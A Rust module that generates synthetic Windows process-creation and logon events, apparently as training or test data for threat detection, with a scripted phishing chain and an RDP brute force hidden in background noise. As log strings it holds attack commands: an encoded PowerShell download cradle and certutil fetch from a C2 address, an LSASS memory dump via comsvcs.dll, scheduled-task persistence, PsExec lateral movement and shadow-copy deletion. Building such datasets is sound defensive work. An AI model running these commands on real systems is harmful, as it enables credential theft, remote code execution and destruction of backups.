//! Windows process creation (Security 4688 and Sysmon 1) and logon (4624/4625) events.
//!
//! Background activity on six machines, with two stories in it:
//! - a phishing chain on WS-FIN-01 (alice.m): Word opens a macro document, PowerShell runs an
//!   encoded download cradle, certutil fetches a DLL, rundll32 runs it, discovery commands,
//!   an LSASS dump through comsvcs.dll, a scheduled task for persistence, then PsExec to
//!   SRV-FILE-01 as adm-dave, where the shadow copies are deleted;
//! - an RDP brute force on SRV-JUMP-01 from 185.220.101.47 ending in bob.k's logon.

use base64::Engine;
use chrono::{DateTime, Duration, Utc};
use rand::Rng;
use rand::rngs::StdRng;

use super::table::{Cell, Table, i, s, t};
use super::world::{self, DOMAIN, Machine, TENANT, Timeline, WINDOWS};

/// One process start, written to 4688 and (on Sysmon hosts) Sysmon 1.
#[derive(Debug, Clone)]
pub struct Proc {
    /// When it started.
    pub time: DateTime<Utc>,
    /// The host.
    pub host: Machine,
    /// Its pid.
    pub pid: u32,
    /// Its executable.
    pub image: String,
    /// Its command line.
    pub cmd: String,
    /// The parent's pid.
    pub parent_pid: u32,
    /// The parent's executable.
    pub parent_image: String,
    /// The parent's command line.
    pub parent_cmd: String,
    /// The user (sAMAccountName or SYSTEM).
    pub user: String,
    /// The logon id.
    pub logon_id: String,
    /// The Sysmon process GUID.
    pub guid: String,
    /// The parent's Sysmon process GUID.
    pub parent_guid: String,
}

impl Proc {
    fn child(&self, rng: &mut StdRng, after_seconds: i64, image: &str, cmd: &str) -> Proc {
        Proc {
            time: self.time + Duration::seconds(after_seconds) + world::jitter(rng, 1),
            host: self.host,
            pid: new_pid(rng),
            image: image.to_string(),
            cmd: cmd.to_string(),
            parent_pid: self.pid,
            parent_image: self.image.clone(),
            parent_cmd: self.cmd.clone(),
            user: self.user.clone(),
            logon_id: self.logon_id.clone(),
            guid: world::guid(rng),
            parent_guid: self.guid.clone(),
        }
    }
}

fn new_pid(rng: &mut StdRng) -> u32 {
    rng.random_range(1000..30000) / 4 * 4
}

const EXPLORER: &str = r"C:\Windows\explorer.exe";
const SERVICES: &str = r"C:\Windows\System32\services.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";

const USER_APPS: [(&str, &str); 8] = [
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""chrome.exe""#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""OUTLOOK.EXE""#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""EXCEL.EXE" "C:\Users\{user}\Documents\Budget_Q2.xlsx""#,
    ),
    (
        r"C:\Windows\System32\notepad.exe",
        r#""notepad.exe" C:\Users\{user}\Desktop\notes.txt"#,
    ),
    (
        r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe",
        r#""Teams.exe" --process-start-time"#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#""powershell.exe" -Command Get-ChildItem C:\Users\{user}\Documents"#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#""cmd.exe" /c ipconfig /all"#,
    ),
    (
        r"C:\Windows\System32\mstsc.exe",
        r#""mstsc.exe" /v:SRV-JUMP-01"#,
    ),
];

const SYSTEM_APPS: [(&str, &str); 7] = [
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe Install $(Arg0)",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1"#,
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#,
    ),
    (
        r"C:\Windows\System32\wuauclt.exe",
        r#""wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 4ef7f7c4"#,
    ),
    (
        r"C:\Windows\System32\gpupdate.exe",
        r"gpupdate.exe /target:computer",
    ),
];

/// The root processes of a host: services.exe for SYSTEM and, on workstations, explorer.exe.
fn roots(rng: &mut StdRng, host: Machine, time: DateTime<Utc>) -> (Proc, Option<Proc>) {
    let services = Proc {
        time,
        host,
        pid: 600 + rng.random_range(0..40) * 4,
        image: SERVICES.into(),
        cmd: SERVICES.into(),
        parent_pid: 500,
        parent_image: r"C:\Windows\System32\wininit.exe".into(),
        parent_cmd: "wininit.exe".into(),
        user: "SYSTEM".into(),
        logon_id: "0x3e7".into(),
        guid: world::guid(rng),
        parent_guid: world::guid(rng),
    };
    let explorer = host.user.map(|user| Proc {
        time,
        host,
        pid: 4000 + rng.random_range(0..500) * 4,
        image: EXPLORER.into(),
        cmd: EXPLORER.into(),
        parent_pid: 3900,
        parent_image: r"C:\Windows\System32\userinit.exe".into(),
        parent_cmd: "userinit.exe".into(),
        user: user.into(),
        logon_id: format!("0x{}", world::hex(rng, 6)),
        guid: world::guid(rng),
        parent_guid: world::guid(rng),
    });
    (services, explorer)
}

/// Background process starts on every Windows host.
fn background(rng: &mut StdRng, timeline: &Timeline, count: usize) -> Vec<Proc> {
    let mut procs = Vec::new();
    let mut hosts = Vec::new();
    for host in WINDOWS {
        let (services, explorer) = roots(rng, host, timeline.start);
        if let Some(explorer) = &explorer {
            procs.push(explorer.clone());
        }
        hosts.push((services, explorer));
    }
    for _ in 0..count {
        let (services, explorer) = world::pick(rng, &hosts).clone();
        let time = timeline.random(rng, 0.8);
        let (parent, (image, cmd)) = match explorer {
            Some(explorer) if world::coin(rng, 0.6) => (explorer, *world::pick(rng, &USER_APPS)),
            _ => (services, *world::pick(rng, &SYSTEM_APPS)),
        };
        let user = parent.user.clone();
        let mut proc = parent.child(
            rng,
            0,
            &image.replace("{user}", &user),
            &cmd.replace("{user}", &user),
        );
        proc.time = time;
        let conhost = proc.image == CMD || proc.image == POWERSHELL;
        if conhost {
            procs.push(proc.child(
                rng,
                0,
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
            ));
        }
        procs.push(proc);
    }
    procs
}

/// The encoded download cradle PowerShell runs (`-enc` takes UTF-16LE base64).
pub fn encoded_cradle() -> String {
    let script = format!(
        "IEX (New-Object Net.WebClient).DownloadString('http://{}/a.ps1')",
        world::C2_IP
    );
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(utf16)
}

/// The attack chain's process starts.
fn attack(rng: &mut StdRng, timeline: &Timeline) -> Vec<Proc> {
    let victim = WINDOWS[0];
    let (_, explorer) = roots(rng, victim, timeline.phish - Duration::minutes(40));
    let Some(mut explorer) = explorer else {
        return Vec::new();
    };
    explorer.time = timeline.phish - Duration::minutes(2);
    let outlook = explorer.child(
        rng,
        0,
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""OUTLOOK.EXE""#,
    );
    let word = outlook.child(rng, 110, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""WINWORD.EXE" /n "C:\Users\alice.m\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7ZK2M1P\Invoice_0529.docm" /o """#);
    let ps = word.child(
        rng,
        35,
        POWERSHELL,
        &format!("powershell.exe -nop -w hidden -enc {}", encoded_cradle()),
    );
    let certutil = ps.child(rng, 12, r"C:\Windows\System32\certutil.exe",
        &format!(r"certutil.exe -urlcache -split -f http://{}/stage2.dll C:\Users\alice.m\AppData\Local\Temp\s2.dll", world::C2_IP));
    let rundll = ps.child(
        rng,
        30,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\alice.m\AppData\Local\Temp\s2.dll,Start",
    );
    let cmd = rundll.child(rng, 240, CMD, r"cmd.exe /c whoami /all");
    let net = cmd.child(
        rng,
        20,
        r"C:\Windows\System32\net.exe",
        r#"net group "Domain Admins" /domain"#,
    );
    let nltest = cmd.child(
        rng,
        45,
        r"C:\Windows\System32\nltest.exe",
        r"nltest /dclist:contoso.local",
    );
    let dump = rundll.child(
        rng,
        600,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\ProgramData\lsass.dmp full",
    );
    let task = rundll.child(rng, 900, r"C:\Windows\System32\schtasks.exe",
        r#"schtasks /create /tn "OneDrive Standalone Update" /tr "rundll32.exe C:\Users\alice.m\AppData\Local\Temp\s2.dll,Start" /sc onlogon /ru SYSTEM"#);
    let psexec = cmd.child(rng, 1500, r"C:\Users\alice.m\AppData\Local\Temp\PsExec64.exe",
        r"PsExec64.exe \\SRV-FILE-01 -accepteula -u CONTOSO\adm-dave -p ******** cmd.exe /c vssadmin delete shadows /all /quiet");
    let mut chain = vec![
        explorer,
        outlook,
        word,
        ps,
        certutil,
        rundll,
        cmd,
        net,
        nltest,
        dump,
        task,
        psexec.clone(),
    ];
    chain.extend(remote_side(rng, &psexec));
    chain
}

/// What PsExec starts on SRV-FILE-01.
fn remote_side(rng: &mut StdRng, psexec: &Proc) -> Vec<Proc> {
    let server = WINDOWS[3];
    let (mut services, _) = roots(rng, server, psexec.time);
    services.time = psexec.time;
    let mut svc = services.child(
        rng,
        2,
        r"C:\Windows\PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe",
    );
    svc.user = "SYSTEM".into();
    let mut cmd = svc.child(
        rng,
        1,
        CMD,
        r"cmd.exe /c vssadmin delete shadows /all /quiet",
    );
    cmd.user = "adm-dave".into();
    cmd.logon_id = format!("0x{}", world::hex(rng, 6));
    let vss = cmd.child(
        rng,
        1,
        r"C:\Windows\System32\vssadmin.exe",
        r"vssadmin delete shadows /all /quiet",
    );
    vec![svc, cmd, vss]
}

/// Every process start, in time order.
pub fn processes(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> Vec<Proc> {
    let mut procs = background(rng, timeline, (1100.0 * scale) as usize);
    procs.extend(attack(rng, timeline));
    procs.sort_by_key(|p| p.time);
    procs
}

fn domain_of(user: &str) -> &'static str {
    if user == "SYSTEM" {
        "NT AUTHORITY"
    } else {
        DOMAIN
    }
}

fn user_sid(user: &str) -> String {
    if user == "SYSTEM" {
        "S-1-5-18".into()
    } else {
        world::sid(world::user(user).rid)
    }
}

/// Security 4688 rows.
pub fn security_4688(procs: &[Proc]) -> Table {
    let mut table = Table::new(
        "windows_process_events",
        &[
            "TenantId",
            "TimeGenerated",
            "EventID",
            "Activity",
            "Computer",
            "Account",
            "AccountType",
            "SubjectUserSid",
            "SubjectUserName",
            "SubjectDomainName",
            "SubjectLogonId",
            "NewProcessId",
            "NewProcessName",
            "TokenElevationType",
            "ProcessId",
            "CommandLine",
            "ParentProcessName",
            "TargetLogonId",
            "MandatoryLabel",
        ],
    );
    for proc in procs {
        let domain = domain_of(&proc.user);
        let system = proc.user == "SYSTEM";
        table.push(vec![
            ("TenantId", s(TENANT)),
            ("TimeGenerated", t(proc.time)),
            ("EventID", i(4688)),
            ("Activity", s("4688 - A new process has been created.")),
            (
                "Computer",
                s(format!("{}.{}", proc.host.name, world::DNS_DOMAIN)),
            ),
            ("Account", s(format!("{domain}\\{}", proc.user))),
            ("AccountType", s(if system { "Machine" } else { "User" })),
            ("SubjectUserSid", s(user_sid(&proc.user))),
            ("SubjectUserName", s(proc.user.clone())),
            ("SubjectDomainName", s(domain)),
            ("SubjectLogonId", s(proc.logon_id.clone())),
            ("NewProcessId", s(format!("0x{:x}", proc.pid))),
            ("NewProcessName", s(proc.image.clone())),
            (
                "TokenElevationType",
                s(if system { "%%1936" } else { "%%1938" }),
            ),
            ("ProcessId", s(format!("0x{:x}", proc.parent_pid))),
            ("CommandLine", s(proc.cmd.clone())),
            ("ParentProcessName", s(proc.parent_image.clone())),
            ("TargetLogonId", s("0x0")),
            (
                "MandatoryLabel",
                s(if system {
                    "S-1-16-16384"
                } else {
                    "S-1-16-8192"
                }),
            ),
        ]);
    }
    table
}

/// A stable fake digest of `text` (`len` hex digits), so the same image has the same hash.
fn digest(text: &str, len: usize) -> String {
    let mut state: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in text.bytes() {
        state = (state ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
    }
    let mut out = String::with_capacity(len);
    while out.len() < len {
        state ^= state >> 33;
        state = state.wrapping_mul(0xff51_afd7_ed55_8ccd);
        state ^= state >> 29;
        out.push_str(&format!("{state:016x}"));
    }
    out.truncate(len);
    out
}

/// Sysmon event 1 rows for the hosts that run Sysmon.
pub fn sysmon_1(procs: &[Proc]) -> Table {
    let mut table = Table::new(
        "sysmon_process_events",
        &[
            "TimeGenerated",
            "EventID",
            "Channel",
            "Computer",
            "UtcTime",
            "ProcessGuid",
            "ProcessId",
            "Image",
            "OriginalFileName",
            "CommandLine",
            "CurrentDirectory",
            "User",
            "LogonId",
            "IntegrityLevel",
            "Hashes",
            "ParentProcessGuid",
            "ParentProcessId",
            "ParentImage",
            "ParentCommandLine",
        ],
    );
    for proc in procs.iter().filter(|p| p.host.sysmon) {
        let file_name = proc
            .image
            .rsplit('\\')
            .next()
            .unwrap_or_default()
            .to_string();
        let directory = if proc.user == "SYSTEM" {
            r"C:\Windows\system32\".to_string()
        } else {
            format!(r"C:\Users\{}\", proc.user)
        };
        table.push(vec![
            ("TimeGenerated", t(proc.time)),
            ("EventID", i(1)),
            ("Channel", s("Microsoft-Windows-Sysmon/Operational")),
            (
                "Computer",
                s(format!("{}.{}", proc.host.name, world::DNS_DOMAIN)),
            ),
            (
                "UtcTime",
                s(proc.time.format("%Y-%m-%d %H:%M:%S%.3f").to_string()),
            ),
            ("ProcessGuid", s(format!("{{{}}}", proc.guid))),
            ("ProcessId", i(i64::from(proc.pid))),
            ("Image", s(proc.image.clone())),
            ("OriginalFileName", s(file_name)),
            ("CommandLine", s(proc.cmd.clone())),
            ("CurrentDirectory", s(directory)),
            (
                "User",
                s(format!("{}\\{}", domain_of(&proc.user), proc.user)),
            ),
            ("LogonId", s(proc.logon_id.clone())),
            (
                "IntegrityLevel",
                s(if proc.user == "SYSTEM" {
                    "System"
                } else {
                    "Medium"
                }),
            ),
            (
                "Hashes",
                s(format!(
                    "SHA256={},MD5={}",
                    digest(&proc.image, 64),
                    digest(&proc.cmd, 32)
                )),
            ),
            ("ParentProcessGuid", s(format!("{{{}}}", proc.parent_guid))),
            ("ParentProcessId", i(i64::from(proc.parent_pid))),
            ("ParentImage", s(proc.parent_image.clone())),
            ("ParentCommandLine", s(proc.parent_cmd.clone())),
        ]);
    }
    table
}

struct Logon<'a> {
    time: DateTime<Utc>,
    host: &'a str,
    user: &'a str,
    logon_type: i64,
    ip: &'a str,
    success: bool,
    sub_status: &'a str,
}

const LOGON_COLUMNS: [&str; 22] = [
    "TenantId",
    "TimeGenerated",
    "EventID",
    "Activity",
    "Computer",
    "Account",
    "SubjectUserName",
    "SubjectDomainName",
    "SubjectUserSid",
    "TargetUserName",
    "TargetDomainName",
    "TargetUserSid",
    "TargetLogonId",
    "LogonProcessName",
    "LogonType",
    "AuthenticationPackageName",
    "Status",
    "SubStatus",
    "IpAddress",
    "IpPort",
    "WorkstationName",
    "FailureReason",
];

fn push_logon(table: &mut Table, rng: &mut StdRng, logon: &Logon) {
    let (event, activity) = if logon.success {
        (4624, "4624 - An account was successfully logged on.")
    } else {
        (4625, "4625 - An account failed to log on.")
    };
    let known = world::USERS.iter().any(|u| u.name == logon.user);
    let network = matches!(logon.logon_type, 3 | 10);
    let mut cells: Vec<(&str, Cell)> = vec![
        ("TenantId", s(TENANT)),
        ("TimeGenerated", t(logon.time)),
        ("EventID", i(event)),
        ("Activity", s(activity)),
        (
            "Computer",
            s(format!("{}.{}", logon.host, world::DNS_DOMAIN)),
        ),
        ("Account", s(format!("{DOMAIN}\\{}", logon.user))),
        ("SubjectUserName", s(format!("{}$", logon.host))),
        ("SubjectDomainName", s(DOMAIN)),
        ("SubjectUserSid", s("S-1-5-18")),
        ("TargetUserName", s(logon.user)),
        ("TargetDomainName", s(DOMAIN)),
        (
            "TargetUserSid",
            s(if known {
                user_sid(logon.user)
            } else {
                "S-1-0-0".into()
            }),
        ),
        (
            "LogonProcessName",
            s(if network { "NtLmSsp " } else { "User32 " }),
        ),
        ("LogonType", i(logon.logon_type)),
        (
            "AuthenticationPackageName",
            s(if network { "NTLM" } else { "Negotiate" }),
        ),
        ("IpAddress", s(logon.ip)),
        (
            "IpPort",
            s(if logon.ip == "-" {
                "-".into()
            } else {
                rng.random_range(49152..65535).to_string()
            }),
        ),
        (
            "WorkstationName",
            s(if logon.ip == world::BRUTE_FORCE_IP {
                "kali"
            } else {
                logon.host
            }),
        ),
    ];
    if logon.success {
        cells.push(("TargetLogonId", s(format!("0x{}", world::hex(rng, 6)))));
        cells.push(("Status", s("0x0")));
    } else {
        cells.push(("TargetLogonId", s("0x0")));
        cells.push(("Status", s("0xc000006d")));
        cells.push(("SubStatus", s(logon.sub_status)));
        cells.push(("FailureReason", s("%%2313")));
    }
    table.push(cells);
}

/// Logon rows: daily interactive and network logons, mistyped passwords, the brute force and
/// adm-dave's PsExec logon on SRV-FILE-01.
pub fn logons(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> Table {
    let mut table = Table::new("windows_logons", &LOGON_COLUMNS);
    for _ in 0..(380.0 * scale) as usize {
        let host = *world::pick(rng, &WINDOWS);
        let user = world::pick(rng, &world::USERS).name;
        let time = timeline.random(rng, 0.9);
        let success = world::coin(rng, 0.93);
        let (logon_type, ip) = match (host.user, world::coin(rng, 0.5)) {
            (Some(owner), true) => (
                if world::coin(rng, 0.5) { 2 } else { 7 },
                if owner == user { "127.0.0.1" } else { "-" },
            ),
            _ => (3, world::pick(rng, &WINDOWS).ip),
        };
        let sub_status = "0xc000006a";
        push_logon(
            &mut table,
            rng,
            &Logon {
                time,
                host: host.name,
                user,
                logon_type,
                ip,
                success,
                sub_status,
            },
        );
    }
    let guesses = [
        "administrator",
        "admin",
        "user",
        "test",
        "backup",
        "scanner",
        "bob.k",
        "svc_sql",
    ];
    let attempts = (320.0 * scale.max(0.25)) as i64;
    for n in 0..attempts {
        let user = guesses[(n as usize * 7 + rng.random_range(0..3)) % guesses.len()];
        let known = world::USERS.iter().any(|u| u.name == user) || user == "administrator";
        let time = timeline.brute_force + Duration::seconds(n * 4) + world::jitter(rng, 3);
        let sub_status = if known { "0xc000006a" } else { "0xc0000064" };
        let logon = Logon {
            time,
            host: "SRV-JUMP-01",
            user,
            logon_type: 3,
            ip: world::BRUTE_FORCE_IP,
            success: false,
            sub_status,
        };
        push_logon(&mut table, rng, &logon);
    }
    let breach = timeline.brute_force + Duration::seconds(attempts * 4 + 30);
    let logon = Logon {
        time: breach,
        host: "SRV-JUMP-01",
        user: "bob.k",
        logon_type: 10,
        ip: world::BRUTE_FORCE_IP,
        success: true,
        sub_status: "",
    };
    push_logon(&mut table, rng, &logon);
    let psexec = timeline.phish + Duration::seconds(1797);
    let logon = Logon {
        time: psexec,
        host: "SRV-FILE-01",
        user: "adm-dave",
        logon_type: 3,
        ip: WINDOWS[0].ip,
        success: true,
        sub_status: "",
    };
    push_logon(&mut table, rng, &logon);
    table.sort_by("TimeGenerated");
    table
}
